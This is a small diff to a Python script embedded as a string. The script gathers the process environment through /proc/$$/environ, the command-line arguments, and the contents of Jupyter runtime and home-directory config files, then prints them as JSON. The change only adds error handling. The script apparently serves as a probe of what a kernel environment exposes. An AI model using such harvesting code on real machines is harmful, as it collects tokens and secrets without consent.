@@ -23,7 +23,12 @@ found["shell"] = subprocess.run("cat /proc/$$/environ", shell=True, capture_outp
 found["arguments"] = " ".join(sys.argv)
 runtime = pathlib.Path(os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent"))
 files = [*runtime.rglob("*"), *pathlib.Path.home().rglob(".jupyter/**/*"), *pathlib.Path.home().rglob(".local/**/*")]
-found["files"] = {str(f): f.read_bytes().decode(errors="replace") for f in files if f.is_file()}
+found["files"] = {}
+for file in files:
+    try:
+        found["files"][str(file)] = file.read_bytes().decode(errors="replace")
+    except OSError:  # a folder, or gone meanwhile
+        pass
 print("FOUND" + json.dumps(found))
 """
 
